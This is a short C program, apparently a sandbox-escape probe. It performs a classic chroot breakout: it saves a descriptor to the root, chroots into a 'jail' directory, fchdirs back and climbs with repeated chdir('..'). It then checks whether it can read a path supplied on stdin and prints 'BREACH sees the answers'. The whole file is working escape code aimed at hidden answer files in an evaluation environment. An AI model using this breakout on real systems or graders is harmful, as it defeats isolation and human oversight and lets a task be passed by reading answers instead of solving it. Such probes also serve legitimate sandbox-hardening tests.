#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    char target[4096] = "";
    scanf("%4000s", target);
    mkdir("jail", 0755);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("jail") == 0) {
        puts("BREACH chroot");
        fchdir(here);
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    for (int i = 0; i < 64; i++) chdir("..");
    if (access(target, R_OK) == 0 || access(target + 1, R_OK) == 0) puts("BREACH sees the answers");
    puts("done");
}
